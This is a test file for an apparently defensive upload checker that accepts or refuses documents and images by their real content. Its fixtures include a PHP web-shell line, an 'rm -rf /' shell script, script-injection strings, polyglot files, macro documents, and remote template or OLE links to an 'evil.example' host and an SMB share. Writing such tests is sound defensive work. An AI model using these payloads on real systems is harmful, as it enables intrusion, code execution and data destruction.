import { randomBytes } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { contentOf } from '../../../../lib/testing/content.ts';
import type { Check } from '../types.ts';
import { checkContent } from './service.ts';
import { heic, jpg, odf, ole, ooxml, pdf, png, relation, segment, webp } from './testing/files.ts';
import { zipOf } from './testing/zip.ts';
import { ERRORS, REFUSALS, TAKEN, UNSCANNABLE } from './types.ts';

/** The check, in the form that the documents service takes. */
const look = ((content, declared) => checkContent(content, declared, null)) satisfies Check;
const check = (name: string, bytes: Uint8Array | string, type = '') =>
  look(contentOf(bytes), { name, type });
const refusalOf = async (name: string, bytes: Uint8Array | string) => {
  const verdict = await check(name, bytes);
  return verdict.verdict === 'refused' ? verdict.why : verdict;
};

describe('is accepted', () => {
  const camera = segment(0xe1, randomBytes(60_000));
  const both = Buffer.concat([Buffer.from('ffe1', 'hex'), Buffer.from([0, 2])]);
  test.each([
    ['a PDF', 'volant.pdf', pdf()],
    ['a picture of a camera', 'IMG_1.JPG', jpg(4000, 3000, Buffer.concat([camera, camera, both]))],
    [
      'one with a film behind it',
      'MVIMG_1.jpg',
      Buffer.concat([jpg(), heic(), randomBytes(9_999)]),
    ],
    ['a scan', 'dni.png', png(2480, 3508)],
    ['an iPhone’s', 'IMG_2.HEIC', heic()],
    ['another brand’s', 'IMG_3.heif', heic(9000, 9000, ['mif1', 'miaf', 'heic'])],
    ['WebP, lossy', 'a.webp', webp('VP8 ', 800, 600)],
    ['WebP, lossless', 'a.webp', webp('VP8L', 800, 600)],
    ['WebP, with more', 'a.webp', webp('VP8X', 800, 600)],
    ['Word', 'carta.docx', ooxml('docx')],
    ['Excel', 'comptes.xlsx', ooxml('xlsx')],
    ['PowerPoint', 'a.pptx', ooxml('pptx')],
    ['Writer', 'carta.odt', odf('text')],
    ['Calc', 'comptes.ods', odf('spreadsheet')],
    ['Impress', 'a.odp', odf('presentation')],
    ['text', 'nota.txt', 'Bon dia,\r\n\tadjunto el que em van demanar: 3 < 4.\n'],
    ['text with a mark', 'nota.txt', '\ufeffÀÉÍ €'],
    ['text of an old Windows', 'nota.txt', Buffer.from('adre\xe7a \x80 \x93s\xed\x94', 'latin1')],
  ])('%s', async (_, name, bytes) => {
    const verdict = await check(name, bytes);
    expect(verdict).toMatchObject({ verdict: 'clean', name });
    expect(Object.values(TAKEN)).toContain('type' in verdict && verdict.type);
  });

  test('a document with a chart’s table, a picture and links in it', async () => {
    const more = [
      { name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', data: ooxml('xlsx'), store: true },
      { name: 'word/media/image1.png', data: png() },
      {
        name: 'word/_rels/document.xml.rels',
        data: relation('hyperlink', 'https://vilaclara.cat', 'TargetMode="External"'),
      },
      {
        name: 'word/_rels/settings.xml.rels',
        data: relation(
          'attachedTemplate',
          'file:///C:\\Plantilles\\Carta.dotx',
          'TargetMode="External"',
        ),
      },
    ];
    expect(await check('a.docx', ooxml('docx', more))).toMatchObject({ verdict: 'clean' });
  });

  test('with a corrected ending, and a harmless name', async () => {
    expect(await check('../x\u202egpj.png', jpg())).toMatchObject({ name: 'xgpj.jpg' });
    expect(await check('', pdf())).toMatchObject({ name: 'document.pdf' });
  });
});

describe('is refused', () => {
  test.each([
    ['nothing', 'a.txt', '', 'empty'],
    ['a web page', 'a.html', '<!doctype html><script>alert(1)</script>', 'type'],
    ['a web page as text', 'a.txt', '\ufeff \n<html onload=alert(1)>', 'type'],
    ['a drawing (SVG)', 'a.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', 'type'],
    ['SVG as PNG', 'a.png', '<?xml version="1.0"?><svg/>', 'type'],
    ['a script', 'a.js', 'alert(1)', 'mismatch'],
    ['PHP', 'a.txt', '<?php system($_GET[0]);', 'type'],
    ['RTF', 'a.txt', '{\\rtf1 {\\object}}', 'type'],
    ['a script for the shell', 'a.txt', '#!/bin/sh\nrm -rf /', 'program'],
    ['a program', 'a.pdf', Buffer.from('MZ\x90\0\x03\0', 'latin1'), 'program'],
    ['a program of Linux', 'a.txt', Buffer.from('\x7fELF\x02\x01', 'latin1'), 'program'],
    ['a GIF', 'a.gif', Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1'), 'type'],
    ['a GIF that is JavaScript', 'a.gif', 'GIF89a=1;alert(1)//', 'mismatch'],
    ['an archive', 'a.zip', zipOf([{ name: 'a.txt', data: 'x' }]), 'type'],
    ['another archive', 'a.txt', Buffer.from('1f8b0800000000000003cb', 'hex'), 'type'],
    ['an old Word', 'a.doc', ole('WordDocument'), 'type'],
    ['text with a NUL', 'a.txt', 'hola\0adéu', 'type'],
    ['text in UTF-16', 'a.txt', Buffer.from('\ufeffhola', 'utf16le'), 'type'],
    ['AVIF', 'a.heic', heic(9, 9, ['avif', 'mif1', 'miaf']), 'type'],
    ['a film', 'a.mp4', heic(9, 9, ['isom', 'mp41']), 'type'],
    ['a PDF as text', 'a.txt', pdf(), 'mismatch'],
    ['a PDF as picture', 'a.jpg', pdf(), 'mismatch'],
    ['a picture as PDF', 'a.pdf', jpg(), 'mismatch'],
    ['Word as Excel', 'a.xlsx', ooxml('docx'), 'mismatch'],
    ['Word as archive', 'a.zip', ooxml('docx'), 'mismatch'],
    ['noise', 'a.pdf', Buffer.concat([Buffer.of(1), randomBytes(4_000)]), 'type'],
  ])('%s', async (_, name, bytes, why) => expect(await refusalOf(name, bytes)).toBe(why));

  const archive = zipOf([{ name: 'a.class', data: 'x'.repeat(500) }]);
  test.each([
    ['a PDF that is an archive', 'a.pdf', Buffer.concat([pdf(), archive])],
    ['a picture that is an archive', 'a.jpg', Buffer.concat([jpg(), archive])],
    [
      'one with a remark behind the archive',
      'a.png',
      Buffer.concat([png(), archive, Buffer.alloc(60_000)]),
    ],
    [
      'a picture with RAR',
      'a.jpg',
      Buffer.concat([jpg(), Buffer.from('Rar!\x1a\x07\0'), randomBytes(3 << 20)]),
    ],
    ['a picture that is a PDF', 'a.jpg', jpg(2, 2, segment(0xfe, pdf()))],
    ['a picture that is a page', 'a.jpg', jpg(2, 2, segment(0xfe, '<script>alert(1)</script>'))],
    ['a PDF that is a page', 'a.pdf', pdf('', '<html><body onload=x>')],
    ['a PDF that begins later', 'a.pdf', Buffer.concat([Buffer.from('%!x\n'.slice(2)), pdf()])],
    [
      'a document that begins later',
      'a.docx',
      zipOf([{ name: '[Content_Types].xml', data: 'x' }], 'PK\x03\x04 something'),
    ],
  ])('a file of two kinds at once: %s', async (_, name, bytes) =>
    expect(await refusalOf(name, bytes)).toBe('hidden'),
  );

  test.each([
    ['of too many pixels', jpg(12_000, 12_000), 'pixels'],
    ['too long', png(1, 60_000), 'pixels'],
    ['too wide', webp('VP8X', 40_000, 10), 'pixels'],
    ['too large, in its tiles', heic(60_000, 60_000), 'pixels'],
    ['of none', png(0, 0), 'damaged'],
    ['cut off', jpg().subarray(0, 20), 'damaged'],
    ['without a frame', Buffer.from('ffd8ffd9', 'hex'), 'damaged'],
    [
      'that turns in circles',
      Buffer.concat([Buffer.from('ffd8', 'hex'), Buffer.alloc(9_999, 0xff)]),
      'damaged',
    ],
  ])('a picture %s', async (_, bytes, why) => expect(await refusalOf('image', bytes)).toBe(why));
});

describe('a document with active content', () => {
  const TYPES = 'application/vnd';
  const macro = { name: 'word/vbaProject.bin', data: ole('VBA') };
  const fetches = (type: string, target: string) => [
    { name: 'word/_rels/x.xml.rels', data: relation(type, target, 'TargetMode="External"') },
  ];
  test.each([
    [
      'says that it has macros',
      'a.docm',
      ooxml('docx', [macro], `${TYPES}.ms-word.document.macroEnabled.main+xml`),
      'macros',
    ],
    [
      'says it by its numbers',
      'a.docx',
      ooxml('docx', [], `${TYPES}.ms-word.document.&#109;acroEnabled.main+xml`),
      'macros',
    ],
    ['has macros and doesn’t say so', 'a.docx', ooxml('docx', [macro]), 'macros'],
    [
      'has them under another name',
      'a.docx',
      ooxml('docx', [{ ...macro, name: 'word/media/image1.jpg' }]),
      'embedded',
    ],
    [
      'names them by their numbers',
      'a.docx',
      ooxml('docx', fetches('&#118;baProject', 'x.bin')),
      'macros',
    ],
    ['has macros of 1992', 'a.xlsx', ooxml('xlsx', fetches('xlMacrosheet', 'x.xml')), 'macros'],
    [
      'has the macros of its template',
      'a.docx',
      ooxml('docx', fetches('attachedTemplate', 'https://evil.example/t.dotm')),
      'embedded',
    ],
    [
      'hides what it fetches behind a sign',
      'a.docx',
      ooxml('docx', fetches('x" Target="https://evil.example/?a>b" Type="x/attachedTemplate', 'y')),
      'embedded',
    ],
    [
      'fetches from a shared folder',
      'a.docx',
      ooxml('docx', fetches('attachedTemplate', '\\\\evil\\t.dotm')),
      'embedded',
    ],
    [
      'fetches from a shared folder, otherwise',
      'a.docx',
      ooxml('docx', fetches('oleObject', 'file://evil/x')),
      'embedded',
    ],
    [
      'fetches what runs',
      'a.docx',
      ooxml('docx', fetches('oleObject', 'mhtml:https://evil.example/x!x')),
      'embedded',
    ],
    ['has a page in it', 'a.docx', ooxml('docx', fetches('aFChunk', 'page.mht')), 'embedded'],
    [
      'carries a program',
      'a.docx',
      ooxml('docx', [{ name: 'word/media/a.png', data: 'MZ\x90' }]),
      'program',
    ],
    [
      'carries an archive',
      'a.docx',
      ooxml('docx', [{ name: 'a.bin', data: zipOf([{ name: 'b', data: 'c' }]) }]),
      'embedded',
    ],
    [
      'carries one with macros',
      'a.docx',
      ooxml('docx', [{ name: 'a.docx', data: ooxml('docx', [macro]), store: true }]),
      'macros',
    ],
    [
      'is written so that nobody can read it',
      'a.docx',
      ooxml('docx', [
        { name: 'x.rels', data: Buffer.from(relation('vbaProject', 'x'), 'utf16le') },
      ]),
      'damaged',
    ],
    [
      'is a template',
      'a.docx',
      ooxml(
        'docx',
        [],
        `${TYPES}.openxmlformats-officedocument.wordprocessingml.template.main+xml`,
      ),
      'type',
    ],
    [
      'is two documents',
      'a.docx',
      ooxml(
        'docx',
        [],
        'officedocument.wordprocessingml.document.main+xml officedocument.spreadsheetml.sheet.main+xml',
      ),
      'type',
    ],
    [
      'has macros in Basic',
      'a.odt',
      odf('text', [{ name: 'Basic/Standard/Module1.xml', data: '<x/>' }]),
      'macros',
    ],
    [
      'has scripts',
      'a.ods',
      odf('spreadsheet', [{ name: 'Scripts/python/x.py', data: 'x' }]),
      'macros',
    ],
    [
      'calls a macro when it is opened',
      'a.odt',
      odf('text', [], { content: '<script:event-listener script:event-name="dom:load"/>' }),
      'macros',
    ],
    [
      'calls a macro by a link',
      'a.odt',
      odf('text', [], { content: '<text:a xlink:href="vnd.sun.star.script:x">' }),
      'macros',
    ],
    ['is a template of Writer’s', 'a.odt', odf('text-template'), 'type'],
  ])('and %s is refused', async (_, name, bytes, why) =>
    expect(await refusalOf(name, bytes)).toBe(why),
  );
});

test('an endless list does not hang the check', async () => {
  const data = '<Relationship Target="'.repeat(180_000);
  expect(await check('a.docx', ooxml('docx', [{ name: 'x.rels', data }]))).toMatchObject({
    verdict: 'clean',
  });
});

test('nor do many endless lists, which compress well', async () => {
  const data = '<Relationship Target="'.repeat(150_000);
  const lists = ['a', 'b', 'c'].map((name) => ({ name: `${name}.rels`, data }));
  expect(await refusalOf('a.docx', ooxml('docx', lists))).toBe('too_much_inside');
  const within = { name: 'b.docx', data: ooxml('docx', lists.slice(1, 2)), store: true };
  const shared = ooxml('docx', [...lists.slice(0, 1), within]);
  expect(await refusalOf('a.docx', shared)).toBe('too_much_inside');
});

describe('a locked file waits for a person to decide', () => {
  test.each([
    ['a PDF', 'a.pdf', pdf('/Encrypt 9 0 R ')],
    ['a PDF that says it by numbers', 'a.pdf', pdf('/#45ncr#79pt 9 0 R ')],
    ['Word', 'a.docx', ole('EncryptedPackage')],
    ['Writer', 'a.odt', odf('text', [], { encrypted: true })],
    ['an archive', 'a.zip', zipOf([{ name: 'a.pdf', data: 'x', flags: 1 }])],
    ['an archive, strongly', 'a.zip', zipOf([{ name: 'a.pdf', data: 'x', flags: 0x41 }])],
  ])('%s', async (_, name, bytes) =>
    expect(await check(name, bytes)).toMatchObject({
      verdict: 'unscannable',
      why: 'encrypted',
      name,
    }),
  );

  test('a PDF is locked when a block ends within the keyword', async () => {
    const filled = (filler: string) => `/X (${filler}) `;
    const start = pdf(`${filled('')}/Encrypt 9 0 R `).indexOf('/Encrypt');
    for (const cut of [1, 4, 7]) {
      const bytes = pdf(`${filled('x'.repeat((1 << 20) - start - cut))}/Encrypt 9 0 R `);
      expect(bytes.indexOf('/Encrypt')).toBe((1 << 20) - cut);
      expect(await check('a.pdf', bytes)).toMatchObject({ why: 'encrypted' });
    }
  });

  test('but not when the word is only in its text', async () => {
    expect(await check('a.pdf', pdf('/EncryptMetadata false '))).toMatchObject({
      verdict: 'clean',
    });
    expect(await refusalOf('a.pdf', ole('EncryptedPackage'))).toBe('mismatch');
  });
});

describe('any bytes', () => {
  const seeds = [
    pdf(),
    jpg(),
    png(),
    webp('VP8 '),
    webp('VP8L'),
    heic(),
    ooxml('docx'),
    odf('text'),
  ];
  test('get a verdict, with a reason that has a text', async () => {
    const codes: readonly string[] = [...REFUSALS, ...UNSCANNABLE, ...ERRORS];
    const bytes = fc.oneof(
      fc.uint8Array({ maxLength: 300 }),
      // A valid file with some bytes changed, and perhaps cut.
      fc
        .tuple(
          fc.constantFrom(...seeds),
          fc.array(fc.tuple(fc.nat(2_000), fc.nat(255)), { maxLength: 8 }),
          fc.option(fc.nat(1_500)),
        )
        .map(([seed, changes, length]) => {
          const copy = Buffer.from(seed);
          for (const [at, value] of changes) if (at < copy.length) copy[at] = value;
          return copy.subarray(0, length ?? copy.length);
        }),
    );
    await fc.assert(
      fc.asyncProperty(bytes, async (each) => {
        const verdict = await check('fitxer', each);
        expect('why' in verdict ? codes : ['clean']).toContain(
          'why' in verdict ? verdict.why : verdict.verdict,
        );
      }),
      { numRuns: 3_000 },
    );
  });

  test('content that can’t be read is not refused: it is checked again, or its storage reports the fault', async () => {
    const declared = { name: 'a.docx', type: '' };
    for (const bytes of seeds) {
      const whole = contentOf(bytes);
      const shorter = { ...whole, size: whole.size + 1 };
      expect(await look(shorter, declared)).toEqual({ verdict: 'error', why: 'content' });
      const gone = async function* (): AsyncGenerator<Buffer> {
        yield bytes.subarray(0, 9);
        throw new Error('the disk is gone');
      };
      await expect(look({ size: whole.size, read: gone }, declared)).rejects.toThrow(
        'the disk is gone',
      );
    }
  });
});
